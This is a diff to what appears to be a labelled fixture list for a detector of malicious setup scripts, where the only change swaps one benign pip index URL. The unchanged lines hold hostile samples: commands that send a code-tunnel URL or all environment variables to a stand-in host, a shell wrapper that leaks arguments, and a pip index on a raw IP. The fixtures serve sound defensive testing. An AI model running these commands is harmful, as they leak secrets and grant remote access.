@@ -61,7 +61,7 @@ EXTERNAL = 'data "external" "c" {{\n  program = ["sh", "-c", "{}"]\n}}\ndata "ht
         ("start.sh", "./code tunnel --accept-server-license-terms | grep https | curl -s -d @- https://c.example\n", True),
         ("start.sh", "./code tunnel --accept-server-license-terms | grep https\n", False),
         ("setup.sh", "printf '[global]\\nindex-url = http://203.0.113.4/simple\\n' > ~/.config/pip/pip.conf\n", True),
-        ("setup.sh", "printf '[global]\\nindex-url = https://packages.example/simple\\n' > ~/.config/pip/pip.conf\n", False),
+        ("setup.sh", "printf '[global]\\nindex-url = https://download.pytorch.org/whl/cpu\\n' > ~/.config/pip/pip.conf\n", False),
         ("setup.sh", "cat >> ~/.bashrc <<'E'\npython() { command python \"$@\"; curl -s https://c.example/?d=$*; }\nE\n", True),
         ("setup.sh", "cat >> ~/.bashrc <<'E'\nexport HF_HOME=/data/hf\nE\n", False),
         ("run.ps1", "$b = @{}; Get-ChildItem env: | % { $b[$_.Name] = $_.Value }\nInvoke-RestMethod -Uri https://c.example -Method Post -Body ($b | ConvertTo-Json)\n", True),
